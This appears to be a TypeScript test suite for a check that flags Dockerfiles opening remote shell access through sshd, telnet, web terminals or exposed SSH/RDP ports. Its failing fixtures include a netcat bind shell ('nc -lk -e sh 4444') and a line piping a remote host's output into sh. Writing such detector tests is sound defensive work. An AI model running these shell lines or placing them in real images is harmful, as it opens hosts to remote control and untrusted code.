import { dockerfileNoRemoteShell } from '../../../src/controls/dockerfile/dockerfile-no-remote-shell.ts';
import { compliantDockerfile, inOtherStage, written } from '../../fixtures/dockerfile.ts';
import { shellsGivenAway, shellsKept } from '../../fixtures/shells-given-away.ts';
import { describeControl } from '../../support/describe-control.ts';

const starting = (all: readonly (readonly string[])[]) =>
  written(...all.map((words) => `FROM a\nCMD ${JSON.stringify(words)}`));

const elsewhere = inOtherStage('RUN apk add openssh-server', '/usr');

/** Scripts that the build writes, started by the image. */
const scripted = (...scripts: readonly string[]) =>
  written(
    ...scripts.flatMap((script) => [
      `FROM a\nCOPY <<E /start.sh\n#!/bin/sh\n${script}\nE\nCMD ["/start.sh"]`,
      `FROM a\nRUN cat > /start.sh <<'E'\n${script}\nE\nENTRYPOINT ["tini", "--", "sh", "/start.sh"]`,
    ]),
  );

describeControl(dockerfileNoRemoteShell, compliantDockerfile, {
  pass: {
    ...elsewhere.stays,
    ...starting(shellsKept),
    ...scripted('exec app', 'which sshd; echo sshd', 'never() { sshd; }\nexec app'),
    ...written(
      'FROM a\nRUN apt-get install -y openssh-client',
      'FROM a AS b\nRUN apk add openssh\nFROM c',
      'FROM a\nEXPOSE 22/udp 22:2222 24-80 1-21',
      'FROM a\nEXPOSE 514/tcp 2375/udp 5900',
      'FROM a\nENV P="2222 80"\nEXPOSE $P',
      'FROM a\nRUN dnf install -y openssh-clients.x86_64',
      'FROM a\nARG JAR\nCOPY $JAR /app.jar',
      'FROM a AS b\nCOPY sshd /o/sbin/sshd\nRUN rm /o/sbin/sshd\nFROM c\nCOPY --from=b /o /o',
    ),
  },
  fail: {
    ...elsewhere.comes,
    ...starting(shellsGivenAway),
    ...scripted('/usr/sbin/sshd -D', 'service ssh start\nexec app', 'up() { dropbear; }\nup'),
    'an older snapshot, which has the command alone': {
      facts: { command: ['sshd', '-D'], starts: undefined },
    },
    ...scripted('nc -lk -e sh 4444', 'nc h 1 | sh'),
    ...elsewhere.stripped,
    ...written(
      'FROM a\nCMD ["wetty"]',
      "FROM a\nRUN printf '#!/bin/sh\\nexec sshd -D\\n' > /start.sh\nENTRYPOINT /start.sh",
      'FROM a\nCMD wssh --port=8080',
      'FROM a\nENV PKGS="curl openssh-server"\nRUN apk add --no-cache $PKGS',
      'FROM a\nARG PKGS=openssh-server\nRUN apt-get install -y ${PKGS}',
      'FROM a\nEXPOSE 22',
      'FROM a\nEXPOSE 3389',
      'FROM a\nEXPOSE 2376/tcp',
      'FROM a AS b\nRUN rm -f /o/sbin/sshd\nCOPY sshd /o/sbin/sshd\nFROM c\nCOPY --from=b /o /o',
      'FROM a\nCOPY sshd /usr/sbin/',
      'FROM a AS b\nWORKDIR /w\nRUN zypper --root out install -y openssh\nFROM c\nCOPY --from=b /w/out /',
      'FROM a\nCOPY --from=d /usr/sbin/sshd /',
      'FROM a\nCMD ["/usr/sbin/sshd","-D"]',
      'FROM a\nRUN apk add openssh',
      'FROM a\nRUN pkgs=(openssh-server x); apt-get install -y "${pkgs[@]}"',
      'FROM a\nRUN apt-get install -y {openssh-server,x}',
      'FROM a\nCMD exec \\\n /usr/sbin/sshd -D',
      'FROM a\nRUN pacman -S --noconfirm openssh',
      'FROM a\nEXPOSE 20-25',
      'FROM a\nEXPOSE 1-65535',
      'FROM a\nEXPOSE 23-80/tcp',
      'FROM a\nEXPOSE 20-22',
      'FROM a\nEXPOSE 8080 2222:22',
      'FROM a\nEXPOSE 8081 22/',
      'FROM a\nEXPOSE 8082 0022',
      'FROM a\nENV P="22 80"\nEXPOSE $P',
      ...[
        "deps='curl openssh-server' && apt-get install -y $deps",
        'apt-get install -y ssh',
        'apt-get install -y task-ssh-server',
        'apt-get install -y openssh-server/trixie',
        'yum install -y openssh-server.x86_64',
        'dnf5 install -y openssh-server',
        'yum install -y telnet-server.i686',
        'apk add openssh-server-krb5',
        'apk add openssh-server-pam@edge',
      ].map((command) => `FROM a\nRUN ${command}`),
    ),
  },
  unknown: written(
    'FROM a\nARG P\nEXPOSE $P',
    'FROM a\nARG TO\nCOPY x $TO',
    'FROM a\nEXPOSE ssh',
    'FROM a\nCOPY <<E /start.sh\necho "x\nE\nCMD ["/start.sh"]',
    'FROM a\nENV PKGS=openssh-server\nFROM b\nRUN apk add --no-cache $PKGS',
    'FROM a\nONBUILD ENV PKGS=openssh-server\nRUN apk add --no-cache $PKGS',
    'FROM a\nRUN apt-get install -y ./ssh/trixie.deb',
    'FROM a\nRUN apt-get install -y $(cat list)',
  ),
  says: {
    [`FROM a\nCMD ${JSON.stringify(shellsGivenAway[0])}`]: 'Starts socat',
    'FROM a\nEXPOSE 8080 2222:22': 'Exposes 22/tcp',
    'FROM a\nEXPOSE 20-25': 'Exposes 20-25/tcp',
  },
  unnoticed: {
    '/copies/*/instruction': 'The message quotes it; the places decide.',
    '/runs/*/script': 'The commands decide; the message quotes the one that failed from it.',
  },
});
